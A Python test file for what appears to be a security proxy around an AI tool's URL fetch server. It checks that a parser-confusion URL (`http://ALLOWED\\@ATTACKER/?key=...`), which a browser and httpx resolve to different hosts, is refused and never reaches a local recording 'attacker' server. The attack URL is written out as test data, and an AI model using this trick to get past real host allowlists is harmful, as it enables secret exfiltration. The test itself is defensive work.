"""The real fetch server (httpx) behind a real proxy, given a URL whose host two parsers disagree on.

`http://ALLOWED\\@ATTACKER/` names the allowed host to a browser and the attacker's to httpx, which
the fetch server uses. The attacker's server here listens on another loopback address and counts
the requests that reach it: none may, on a clean session or a tainted one.
"""

import http.server
import threading
from collections.abc import Iterator
from contextlib import contextmanager

import pytest
from support.fetch_site import FETCH_BIN, FETCH_SERVER, MISSING, local_site
from support.url_parsers import hosts_reached

pytestmark = pytest.mark.skipif(not FETCH_BIN.exists(), reason=MISSING)

ATTACKER_ADDRESS = "127.0.0.2"


@contextmanager
def attacker_server() -> Iterator[tuple[int, list[str]]]:
    """A web server on another loopback address that records every path asked of it."""
    paths: list[str] = []

    class Recording(http.server.BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            paths.append(self.path)
            self.send_response(404)
            self.send_header("Content-Length", "0")
            self.end_headers()

        def log_message(self, format: str, *args: object) -> None:
            pass

    server = http.server.ThreadingHTTPServer((ATTACKER_ADDRESS, 0), Recording)
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    try:
        yield server.server_address[1], paths
    finally:
        server.shutdown()
        server.server_close()


@pytest.fixture
def site(tmp_path):
    folder = tmp_path / "site"
    folder.mkdir()
    (folder / "notes.html").write_text(
        "<html><body><p>Version 4.2 builds faster.</p></body></html>"
    )
    with local_site(folder) as base:
        yield base


@pytest.fixture
def fetch_proxy(start_proxy, proxy_env, tmp_path):
    policy = tmp_path / "fetch.toml"
    policy.write_text('allow_hosts = ["127.0.0.1"]\n[servers.web]\ntrust = "untrusted"\n')
    proxy = start_proxy(
        ["-n", "web", "--", *FETCH_SERVER], env={**proxy_env, "LAZARETTO_POLICY": str(policy)}
    )
    proxy.initialize()
    yield proxy
    proxy.close()


def fetch(proxy, url: str) -> dict:
    return proxy.request("tools/call", {"name": "fetch", "arguments": {"url": url}}, timeout=60)


def test_a_url_httpx_reads_as_the_attackers_is_refused_clean_and_tainted(fetch_proxy, site, store):
    with attacker_server() as (port, reached):
        allowed = site.removeprefix("http://")
        attack = f"http://{allowed}\\@{ATTACKER_ADDRESS}:{port}/?key=zq-secret-zq"
        # The premise: a browser reads the allowed host, httpx the attacker's.
        readings = hosts_reached(attack)
        assert (readings["whatwg"], readings["httpx"]) == ("127.0.0.1", ATTACKER_ADDRESS)

        refused = fetch(fetch_proxy, attack)["error"]
        assert refused["data"]["reason"] == "host_not_allowed"
        assert ATTACKER_ADDRESS in refused["data"]["hosts"]
        assert not store.sessions.state("test-session").tainted

        page = fetch(fetch_proxy, f"{site}/notes.html")["result"]["content"][0]["text"]
        assert "builds faster" in page and store.sessions.state("test-session").tainted
        refused = fetch(fetch_proxy, attack)["error"]
        assert refused["data"]["reason"] == "host_not_allowed"
        assert reached == []
